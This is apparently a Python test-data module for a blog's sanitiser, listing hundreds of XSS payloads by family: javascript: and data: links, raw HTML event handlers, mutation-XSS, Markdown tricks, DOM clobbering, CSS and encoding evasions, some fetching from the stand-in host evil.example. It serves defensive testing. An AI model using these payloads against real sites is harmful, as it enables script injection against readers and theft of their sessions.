# ruff: noqa: E501 - an attack is one line
"""Attacks on whoever reads a comment or an article, by family; `alert(1)` and `evil.example` are what they are after.

The public ones of `../shared/data/xss.jsonl`, where that stands beside the repository, are taken along.
"""

import json

from blog.config import ROOT

PUBLIC = ROOT.parent / "shared/data/xss.jsonl"

JAVASCRIPT = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "javascript&colon;alert(1)", "javascript&#58alert(1)",
    "&#106avascript:alert(1)", "&#x6A;avascript:alert(1)", "&#0000106avascript:alert(1)", "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", "java\rscript:alert(1)",
    " javascript:alert(1)", "\x01javascript:alert(1)", "\x0cjavascript:alert(1)", "&#1;javascript:alert(1)",
    "&#14; javascript:alert(1)", "java\0script:alert(1)", "java&#0;script:alert(1)", "javascript:`привет 8800`",
    "javascript:`${alert(1)}`", "javascript:alert(1)//:8800", "javascript:8800/alert(1)", "javascript://a%0Aalert(1)",
    "javascript://https://a.example/%0Aalert(1)", "javascript:/*https://a.example*/alert(1)",
    "javascript:alert(1)//https://a.example/", "javascript%3Aalert(1)", "\u200bjavascript:alert(1)",
    "java\u00adscript:alert(1)", "ｊａｖａｓｃｒｉｐｔ:alert(1)", "javaſcript:alert(1)", "javascript：alert(1)",
    "\u202ejavascript:alert(1)", "\ufeffjavascript:alert(1)", "\xa0javascript:alert(1)", "view-source:javascript:alert(1)",
    "feed:javascript:alert(1)", "jar:javascript:alert(1)!/", "x-javascript:alert(1)", "livescript:alert(1)",
)  # fmt: skip
ELSEWHERE = (
    "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>", "vbscript:msgbox(1)", "blob:https://evil.example/1", "about:blank",
    "file:///etc/passwd", "filesystem:https://evil.example/1", "ftp://evil.example/", "//evil.example/", "///evil.example/",
    "/\\evil.example/", "\\\\evil.example/", "/\t/evil.example/", "https:evil.example", "https:/evil.example",
    "https:\\\\evil.example", "http://a.example@evil.example/", "http://a.example\\@evil.example/",
    "http://[::1", "http://evil.example\\.a.example/", "https://a.example/\" onmouseover=\"alert(1)",
    "https://a.example/' onmouseover='alert(1)", "https://a.example/`onmouseover=`alert(1)", "evil.example:8800",
    "word:8800", "x:80`", "mailto:a@b.example?cc=c@d.example&body=<script>alert(1)</script>", "tel:1", "sms:1", "ws://evil.example",
    "intent://evil.example#Intent;end", "ms-word:ofe|u|https://evil.example/", "steam://run/1", "magnet:?xt=1",
)  # fmt: skip
RAW = (
    "<script>alert(1)</script>", "<script src=//evil.example/x.js></script>", "<script\n>alert(1)</script\n>",
    "<ScRiPt>alert(1)</sCrIpT>", "<script/x>alert(1)</script>", "<script>alert(1)", "<<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script type=module>alert(1)</script>",
    "<script>alert(1)<!--</script>", "<img src=x onerror=alert(1)>", "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror=alert(1)//", "<img src=`x` onerror=`alert(1)`>", "<img src='x' onerror='alert(1)'",
    "<img src=x:x onerror=alert(1)>", "<img src=x onerror\n=\nalert(1)>", "<img \"\"\"><script>alert(1)</script>\">",
    "<img src=//evil.example/x.png>", "<img srcset='//evil.example/x.png 1x'>", "<image src=x onerror=alert(1)>",
    "<body onload=alert(1)>", "<body background=//evil.example/x>", "<html onclick=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=//evil.example/></iframe>", "<iframe onload=alert(1)></iframe>", "<frameset onload=alert(1)>",
    "<object data=//evil.example/x></object>", "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src=//evil.example/x.swf>", "<embed src=javascript:alert(1)>", "<applet code=x>", "<portal src=//evil.example>",
    "<video src=x onerror=alert(1)>", "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>",
    "<video poster=//evil.example/x.png>", "<track src=//evil.example/x default>", "<input autofocus onfocus=alert(1)>",
    "<input type=image src=//evil.example/x.png>", "<button onclick=alert(1)>press</button>",
    "<button formaction=javascript:alert(1) form=x>press</button><form id=x></form>",
    "<form action=javascript:alert(1)><input type=submit></form>", "<form action=//evil.example/><button>go</button>",
    "<isindex action=javascript:alert(1) type=image>", "<select autofocus onfocus=alert(1)>", "<keygen autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>", "<marquee onstart=alert(1)>x</marquee>",
    "<dialog open onclose=alert(1)>", "<div onpointerrawupdate=alert(1) onmouseover=alert(1)>over</div>",
    "<b onclick=alert(1)>b</b>", "<p onmouseenter=alert(1) style=position:fixed;inset:0>x", "<a href=javascript:alert(1)>x</a>",
    "<a href=\"javascript:alert(1)\" target=_top>x</a>", "<a onmouseover=alert(1) href=#>x</a>", "<a ping=//evil.example/ href=/>x</a>",
    "<area href=javascript:alert(1)>", "<base href=//evil.example/>", "<base href=javascript:/a/><a href=/b>x</a>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>", "<meta http-equiv=refresh content='0;javascript:alert(1)'>",
    "<meta http-equiv=Set-Cookie content=a=b>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=import href=//evil.example/>", "<link rel=prefetch href=//evil.example/>", "<bgsound src=//evil.example/x>",
    "<x onfocus=alert(1) tabindex=1 autofocus>x", "<x contenteditable onblur=alert(1)>x", "<custom-element onclick=alert(1)>x",
    "<p hidden=until-found onbeforematch=alert(1)>x", "<p popover id=x onbeforetoggle=alert(1)>x", "</script><script>alert(1)</script>",
    "</p></div></body><script>alert(1)</script>", "<p/onclick=alert(1)>x", "<p\tonclick=alert(1)>x", "<p\x0conclick=alert(1)>x",
    "<p \"onclick=alert(1)>x", "<p a='\"' onclick=alert(1)>x", "<p onclick =alert(1)>x", "<img src=x onerror=&#97;lert(1)>",
)  # fmt: skip
MUTATIONS = (
    "<svg onload=alert(1)>", "<svg/onload=alert(1)//", "<svg><script>alert(1)</script></svg>", "<svg><script>alert&lpar;1)</script>",
    "<svg><a href=javascript:alert(1)><text y=9>x</text></a></svg>", "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><set attributeName=href to=javascript:alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>", "<svg></p><style><a id=\"</style><img src=x onerror=alert(1)>\">",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>", "<svg><desc><img src=x onerror=alert(1)></desc></svg>",
    "<svg><title><style><img src=x onerror=alert(1)></style></title></svg>", "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>", "<math href=javascript:alert(1)>x</math>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml></math>",
    "<math><mtext><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>",
    "<math><p><style><!--</style><img src/onerror=alert(1)>--></style></p></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<noscript><!--</noscript><img src=x onerror=alert(1)>-->",
    "<template><script>alert(1)</script></template>", "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
    "<template><p></template><img src=x onerror=alert(1)>", "<style><!--</style><img src=x onerror=alert(1)>-->",
    "<style><img title=\"</style><img src=x onerror=alert(1)>\">", "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<title><p title=\"</title><img src=x onerror=alert(1)>\">", "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\">",
    "<iframe><p title=\"</iframe><img src=x onerror=alert(1)>\">", "<noembed><p title=\"</noembed><img src=x onerror=alert(1)>\">",
    "<noframes><p title=\"</noframes><img src=x onerror=alert(1)>\">", "<plaintext><script>alert(1)</script>", "<listing>&lt;img onerror=alert(1) src=x&gt;</listing>",
    "<!--><script>alert(1)</script>-->", "<!---><script>alert(1)</script>-->", "<!-- --!><img src=x onerror=alert(1)> -->",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">", "<!-[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>", "<![CDATA[><script>alert(1)</script>]]>", "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "<?x ><img src=x onerror=alert(1)> ?>", "<!DOCTYPE x [<!ENTITY a '<script>alert(1)</script>'>]>&a;", "</ script><img src=x onerror=alert(1)>",
    "<//><img src=x onerror=alert(1)>", "<%<!--'%><script>alert(1);</script -->", "<table><td><svg><p><img src=x onerror=alert(1)>",
    "<select><option><style></option></select><b><img src=x onerror=alert(1)></style></option>",
    "<select><iframe><select><img src=x onerror=alert(1)></select></iframe></select>",
    "<table><a href=javascript:alert(1)><tr>x</table>", "<b><p></b><img src=x onerror=alert(1)>", "<form><form><input name=x></form><img src=x onerror=alert(1)>",
    "<a><b><a href=javascript:alert(1)>x</a></b></a>", "<ruby><rp><img src=x onerror=alert(1)></rp></ruby>", "<p><svg><p title=\"</svg><img src=x onerror=alert(1)>\">",
)  # fmt: skip
MARKDOWN = (
    "[x](https://a.example/ \"title\" onclick=alert(1))", "[x](https://a.example/ '\"><img src=x onerror=alert(1)>')",
    "[x](<https://a.example/\"onclick=alert(1)>)", "[x](https://a.example/ \"<script>alert(1)</script>\")", "[<img src=x onerror=alert(1)>](https://a.example/)",
    "[![x](x \"onerror=alert(1)\")](javascript:alert(1))", "![x](x\"onerror=\"alert(1))", "![\"onerror=\"alert(1)](x)",
    "![x](//evil.example/x.png)", "![x](https://evil.example/x.png \"t\")", "![x](/media/a.jpg\"onload=\"alert(1))", "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "![`<img src=x onerror=alert(1)>`](/media/a.jpg '|<b onclick=alert(1)>')", "<javascript:alert(1)>", "<https://a.example/\"onclick=alert(1)>",
    "<a@b.example\"onclick=alert(1)>", "<mailto:a@b.example?x=\"onclick=alert(1)>", "https://a.example/\"onmouseover=alert(1)", "https://a.example/<script>alert(1)</script>",
    "http://a.example/`onclick=alert(1)`", "javascript://a.example/%0Aalert(1)", "[a]: javascript:alert(1)\n\n[a]", "[a]: <javascript:alert(1)> \"x\"\n\n[x][a] ![y][a]",
    "[a]: https://a.example/ '\"><script>alert(1)</script>'\n\n[a]", "```html\n<script>alert(1)</script>\n```", "```\"onclick=alert(1)\nx\n```",
    "```python\"><script>alert(1)</script>\nx\n```", "~~~<img/src=x/onerror=alert(1)>\nx\n~~~", "```js\n</code></pre><script>alert(1)</script>\n```", "`<script>alert(1)</script>`",
    "`` `<img src=x onerror=alert(1)>` ``", "    <script>alert(1)</script>", "|<img src=x onerror=alert(1)>|b|\n|-|-|\n|<script>alert(1)</script>|`|`|",
    "|a|\n|:-:\" onclick=alert(1)|\n|b|", "|a|\n|-|\n|[x](javascript:alert(1))|", "::: pull\" onclick=\"alert(1)\nx\n:::", "::: aside <script>alert(1)</script>\nx\n:::",
    "::: aside\n<div onclick=alert(1)>\n:::\n</div>", "x[^1]\n\n[^1]: <script>alert(1)</script>", "x[^\"onclick=alert(1)]\n\n[^\"onclick=alert(1)]: y",
    "x^[[y](javascript:alert(1))]", "# x {onclick=alert(1)}", "[x](https://a.example/){onclick=alert(1) style=x}", "## <img src=x onerror=alert(1)>", "## \"onclick=alert(1)",
    "<b>*x</b onclick=alert(1)>*", "*<i onclick=*alert(1)>x", "**<b title=**\"><img src=x onerror=alert(1)>", "> <script>\n> alert(1)\n> </script>", "- <script>\n  alert(1)</script>",
    "1. [ ] <img src=x onerror=alert(1)>", "- [x\" onclick=alert(1)] y", "Term\n: <script>alert(1)</script>", "<p>\n\n*x*\n\n<script>\nalert(1)\n\n</script>",
    "<div\nonclick=alert(1)\n>\nx", "<pre>\n\n```\n</pre><script>alert(1)</script>\n```", "\\<script>alert(1)\\</script>", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;", "&ltscript&gtalert(1)&lt/script&gt", "&#60script&#62alert(1)&#60/script&#62", "&#x3cimg src=x onerror=alert(1)&#x3e",
    "[x](&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116:alert(1))", "[x](javascript\\:alert(1))", "[x](java\\\nscript:alert(1))", "[x]( <javascript:alert(1)> )",
)  # fmt: skip
CLOBBER = (
    "<form id=documentElement><input name=attributes></form>", "<a id=getElementById href=x>x</a>", "<img name=cookie>", "<p id=comments>x</p>", "<a name=body href=/x>x</a>",
    "<form name=forms><input name=submit></form>", "<iframe name=top></iframe>", "## comments", "## preview", "<h2 id=comment-1>x</h2>", "<h2 id=respond>x</h2>",
    "<li id=main>x", "<a id=remember>x</a>", "<section role=alert class=masthead>x</section>", "<p class=card--own style=x>x</p>", "<object id=defaultView>", "<span class='queue__row'>x</span>",
)  # fmt: skip
STYLE = (
    "<style>@import'//evil.example/x.css';</style>", "<style>*{background:url(//evil.example/x)}</style>", "<p style=background:url(//evil.example/x)>x</p>",
    "<p style=position:fixed;inset:0;z-index:9>x</p>", "<p style='x:expression(alert(1))'>x</p>", "<p style='behavior:url(//evil.example/x)'>x</p>",
    "<p style='-moz-binding:url(//evil.example/x)'>x</p>", "<a style='background-image:url(\"javascript:alert(1)\")'>x</a>", "<font face=x color=red size=99>x</font>",
    "<table background=//evil.example/x><td background=//evil.example/y>x</table>", "<p style=animation-name:x onanimationstart=alert(1)>x</p>", "<style>@keyframes x{}</style><p style=animation:x onanimationend=alert(1)>x",
)  # fmt: skip
BYTES = (
    "<scr\0ipt>alert(1)</scr\0ipt>", "<img src=x one\0rror=alert(1)>", "<\0script>alert(1)</script>", "\ufffd<script>alert(1)</script>", "\udcff<img src=x onerror=alert(1)>",
    "\udc3cscript>alert(1)</script>", "\xc0\xbcscript\xc0\xbealert(1)", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "\x1b$B<script>alert(1)</script>\x1b(B",
    "＜script＞alert(1)＜/script＞", "\u2039script\u203aalert(1)", "<\u202escript>alert(1)</script>", "\u202e>tpircs/<)1(trela>tpircs<", "\u2066<img src=x onerror=alert(1)>\u2069",
    "[\u202egnp.kcilc](https://evil.example/)", "<ſcript>alert(1)</ſcript>", "<ımg src=x onerror=alert(1)>", "<img\u00a0src=x\u00a0onerror=alert(1)>", "<img\u2028src=x onerror=alert(1)>",
    "<img src=x\x0bonerror=alert(1)>", "<img src=x\x85onerror=alert(1)>", "&#0;<script>alert(1)</script>", "&#xD800;<script>alert(1)</script>", "&#x110000;<img src=x onerror=alert(1)>",
    "&#128;&#x81;<img src=x onerror=alert(1)>", "\x7f<script>alert(1)</script>", "\ufffe\uffff<script>alert(1)</script>", "\U000e0001<script>alert(1)</script>",
)  # fmt: skip
LONG = (
    "<b>" * 1200 + "<script>alert(1)</script>", "<a href='" + "x" * 4000 + "'onclick=alert(1)>x", "<" + "x" * 2000 + " onclick=alert(1)>x", "<p " + "a=1 " * 1000 + "onclick=alert(1)>x",
    "[x](javascript:" + "a" * 3000 + ";alert(1))", "> " * 500 + "<script>alert(1)</script>", "<div>" * 600 + "</div>" * 600 + "<img src=x onerror=alert(1)>",
    "<svg><style>" * 300 + "<img src=x onerror=alert(1)>", "<table><tr><td>" * 300 + "<img src=x onerror=alert(1)>", "<!--" + "-" * 3000 + "><script>alert(1)</script>",
    "&" + "lt;" * 1000 + "<script>alert(1)</script>", "&#" + "0" * 2000 + "60;script>alert(1)</script>", "<math>" * 500 + "<mtext><img src=x onerror=alert(1)>",
    "<font><p>" * 300 + "<img src=x onerror=alert(1)>", "*" * 2000 + "<script>alert(1)</script>", "[" * 400 + "](javascript:alert(1))" * 100,
)  # fmt: skip
CLASSICS = (
    "<svg/onload=alert(1)>", "<img src=x onerror=alert(1)>", "<iframe src=//h></iframe>", "<math><mi//xlink:href='data:x'>", "<style>@import'//h'</style>",
    "<base href=//h>", "<form action=//h><button>", "<a href='jav&#x09;ascript:x'>y</a>", "<noscript><p title='</noscript><img src=x onerror=x>'>", "<p style='background:url(//h)'>",
    "<object data=x>", "[a](javascript&colon;alert(1))", "[a](  javascript:x)", "![a](javascript:x)", "<javascript:x>",
    "[a]: javascript:x\n\n[a]", "<textarea><script>x</script>", "<!--><script>x</script>-->", "<a href=`javascript:x`>", "`<script>`",
    "<<script>x</script>", "<details open ontoggle=x>", "<video><source onerror=x>", "<picture><source srcset='//h/x 1w' type=image/avif><img src=/media/a.jpg onload=x></picture>", "<picture onclick=x><source srcset=javascript:x><img src=javascript:x></picture>",
    '![a](</media/a-1.jpg" onerror=alert(1) x=">)', "<link rel=stylesheet href=//h>", "<meta http-equiv=refresh>",
)  # fmt: skip
FAMILIES = {
    "classics": CLASSICS,
    "links": tuple(f"[x]({address})" for address in JAVASCRIPT + ELSEWHERE),
    "links in brackets": tuple(f"[x](<{address}>)" for address in JAVASCRIPT[::4] + ELSEWHERE[::4]),
    "anchors": tuple(f'<a href="{address}">x</a>' for address in JAVASCRIPT + ELSEWHERE),
    "raw HTML": RAW,
    "mutations": MUTATIONS,
    "Markdown": MARKDOWN,
    "clobbering": CLOBBER,
    "style": STYLE,
    "bytes": BYTES,
    "long": LONG,
}
ATTACKS = [attack for family in FAMILIES.values() for attack in family]


def public_attacks() -> list[str]:
    """Those that others found, as long as a comment may be; none where they are not at hand."""
    lines = PUBLIC.read_text("utf-8").splitlines() if PUBLIC.exists() else []
    return [json.loads(line)["payload"][:5000] for line in lines]
